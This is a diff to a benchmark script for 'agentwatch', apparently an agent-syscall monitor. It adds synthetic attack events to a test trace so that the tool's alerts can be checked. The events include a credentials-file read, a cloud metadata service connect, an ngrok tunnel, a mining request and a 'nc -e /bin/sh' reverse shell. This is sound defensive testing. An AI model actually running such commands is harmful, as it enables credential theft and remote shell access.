@@ -3,12 +3,20 @@
 
 Generates a trace of N events (default 1,000,000) shaped like an agent's work:
 processes spawning and exec'ing, opens of libraries and sources, reads/writes,
-connects and socket writes, DNS exchanges, exits. Times `agentwatch replay`
-over it (CPU time of the child, wall time beside it), and `jq` selecting the
-same events (the execs, connects and socket sends the pack looks at) as a
-yardstick. The trace is cached in /tmp between runs.
-Usage: bench/replay.py [--events N] [--runs R] [--keep]
+connects and socket writes, DNS exchanges, exits; every ATTACK_EVERY rounds a
+few attacks the pack must catch (a credential read, the metadata service, a
+tunnel service reached by a name learnt from a DNS answer, a netcat shell, a
+stratum request), so the verdicts are checked, not only the speed. Times
+`agentwatch replay` over it with the built-in pack and with no rules (CPU time
+of the child, wall time beside it), and `jq` selecting the same events (the
+execs, connects and socket sends the pack looks at) as a yardstick. Prints the
+alerts per rule; --compare OTHER_AGENTWATCH replays with another build too and
+fails unless both give the same alerts. The trace is cached in /tmp between runs.
+Usage: bench/replay.py [--events N] [--runs R] [--keep] [--compare BINARY]
 """
+import collections
+import hashlib
+import tempfile
 import argparse
 import json
 import os
@@ -21,6 +29,17 @@ import time
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 AW = os.path.join(ROOT, ".build/release/agentwatch")
 WALL0 = 1_795_881_030_215_206_113
+# Rounds (about 23 events each) between two bursts of attacks.
+ATTACK_EVERY = 500
+TRACE_VERSION = 2
+
+
+def dns_answer(name, ip):
+    """A DNS response (one A record) as the trace writes payloads: one code point per byte."""
+    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    msg = bytes([0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]) + q + bytes([0, 1, 0, 1])
+    msg += bytes([0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]) + bytes(int(x) for x in ip.split("."))
+    return msg.decode("latin-1")
 
 
 def generate(path, n):
@@ -67,6 +86,32 @@ def generate(path, n):
            "remote": {"family": "inet", "addr": "93.184.216.34", "port": 443}}
     udp = {"fd": 4, "type": "ipv4", "name": "10.0.0.2:5353->127.0.0.53:53", "proto": "udp",
            "remote": {"family": "inet", "addr": "127.0.0.53", "port": 53}}
+    def attacks():
+        nonlocal pid
+        # Credentials read by the agent itself; the metadata service; a tunnel service by its name.
+        syscall(root, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": "/home/agent/.aws/credentials"}, "flags": rdonly}, 3,
+                {"fd": {"fd": 3, "type": "file", "name": "/home/agent/.aws/credentials"}})
+        meta = dict(tcp, name="10.0.0.2:40001->169.254.169.254:80", remote={"family": "inet", "addr": "169.254.169.254", "port": 80})
+        syscall(root, "connect", 42, {"fd": meta, "addr": {"family": "inet", "addr": "169.254.169.254", "port": 80}}, 0)
+        syscall(root, "recvfrom", 45, {"fd": udp, "size": 512, "flags": {"flags": "", "raw": 0}}, 61,
+                {"data": {"data": dns_answer("x1.tcp.ngrok-agent.com", "3.134.39.220"), "len": 61},
+                 "addr": {"family": "inet", "addr": "127.0.0.53", "port": 53}})
+        ngrok = dict(tcp, name="10.0.0.2:40002->3.134.39.220:443", remote={"family": "inet", "addr": "3.134.39.220", "port": 443})
+        syscall(root, "connect", 42, {"fd": ngrok, "addr": {"family": "inet", "addr": "3.134.39.220", "port": 443}}, 0)
+        syscall(root, "write", 1, {"fd": tcp, "data": {"data": '{"id":1,"method":"mining.subscribe","params":[]}', "len": 48}, "count": 48}, 48)
+        # A netcat handing a shell to a connection: killed at execve entry.
+        pid += 1
+        e = base(pid, "spawn")
+        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3"})
+        line(e)
+        argv = ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"]
+        e = base(pid, "syscall")
+        e.update({"sc": "execve", "nr": 59, "args": {"filename": {"path": "/usr/bin/nc"}, "argv": {"strv": argv}, "envp": {"hex": "0x7ffd0000"}}})
+        line(e)
+        e = base(pid, "exit")
+        e.update({"signal": 9, "process": True})
+        line(e)
+
     root = pid
     e = base(root, "spawn")
     e.update({"ppid": 1, "via": "root", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3"})
@@ -77,6 +122,8 @@ def generate(path, n):
     i = 0
     while count < n:
         i += 1
+        if i % ATTACK_EVERY == 0:
+            attacks()
         # The agent itself: reads sources, talks to its API, resolves names.
         for k in range(6):
             syscall(root, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": f"/work/src/file{k}.py"}, "flags": rdonly}, 3,
@@ -125,15 +172,37 @@ def cpu_of_child(cmd, stdout=subprocess.DEVNULL):
     return p.returncode, cpu, wall, p.stderr.decode(errors="replace")
 
 
+def replay(binary, path, extra=(), alerts=None):
+    cmd = [binary, "replay", path, "--fail-on", "emergency"] + list(extra)
+    if alerts:
+        cmd += ["--alerts", alerts]
+    rc, cpu, wall, err = cpu_of_child(cmd)
+    if rc not in (0, 1):
+        sys.exit(f"{binary} replay failed ({rc}): {err[-400:]}")
+    return cpu, wall
+
+
+def alert_digest(path):
+    """Alerts per rule and a digest of every alert line (rule, pid, syscall, seq, fields...)."""
+    per_rule = collections.Counter()
+    h = hashlib.sha256()
+    with open(path, "rb") as f:
+        for raw in f:
+            per_rule[json.loads(raw)["rule"]] += 1
+            h.update(raw)
+    return per_rule, h.hexdigest()[:16]
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--events", type=int, default=1_000_000)
     ap.add_argument("--runs", type=int, default=3)
     ap.add_argument("--keep", action="store_true", help="keep the generated trace")
+    ap.add_argument("--compare", metavar="BINARY", help="another agentwatch build that must give the same alerts")
     a = ap.parse_args()
     if not os.access(AW, os.X_OK):
         sys.exit("bench/replay.py: build first (make build)")
-    path = f"/tmp/agentwatch-replay-bench-{a.events}.jsonl"
+    path = f"/tmp/agentwatch-replay-bench-v{TRACE_VERSION}-{a.events}.jsonl"
     if not os.path.exists(path):
         t0 = time.monotonic()
         got = generate(path, a.events)
@@ -143,15 +212,25 @@ def main():
         lines = sum(1 for _ in f) - 1
     print(f"trace: {lines} events, {size / 1e6:.0f} MB, {size // max(lines, 1)} bytes/event")
 
-    best = None
-    for _ in range(a.runs):
-        rc, cpu, wall, err = cpu_of_child([AW, "replay", path, "--fail-on", "emergency"])
-        if rc not in (0, 1):
-            sys.exit(f"agentwatch replay failed ({rc}): {err[-400:]}")
-        best = (cpu, wall) if best is None or cpu < best[0] else best
-    cpu, wall = best
-    print(f"agentwatch replay (built-in pack): {cpu:.2f}s CPU, {wall:.2f}s wall -> {lines / cpu / 1e6:.2f}M events/s of CPU "
-          f"({lines / wall / 1e6:.2f}M/s wall), best of {a.runs}")
+    for label, extra in (("built-in pack", []), ("no rules, --no-defaults", ["--no-defaults"])):
+        runs = [replay(AW, path, extra) for _ in range(a.runs)]
+        cpu, wall = min(runs)
+        print(f"agentwatch replay ({label}): {cpu:.2f}s CPU, {wall:.2f}s wall -> {lines / cpu / 1e6:.2f}M events/s of CPU "
+              f"({lines / wall / 1e6:.2f}M/s wall), best of {a.runs}")
+
+    with tempfile.TemporaryDirectory() as tmp:
+        mine = os.path.join(tmp, "alerts.jsonl")
+        replay(AW, path, alerts=mine)
+        per_rule, digest = alert_digest(mine)
+        print(f"alerts: {sum(per_rule.values())} (digest {digest}): " + ", ".join(f"{r} {c}" for r, c in sorted(per_rule.items())))
+        if a.compare:
+            theirs = os.path.join(tmp, "theirs.jsonl")
+            cpu, _ = replay(a.compare, path, alerts=theirs)
+            other_rules, other_digest = alert_digest(theirs)
+            print(f"{a.compare}: {cpu:.2f}s CPU -> {lines / cpu / 1e6:.2f}M events/s, alerts {sum(other_rules.values())} (digest {other_digest})")
+            if other_digest != digest:
+                sys.exit("bench/replay.py: the alerts differ from the other build's")
+            print("same alerts as the other build")
 
     jq = shutil.which("jq")
     if jq:
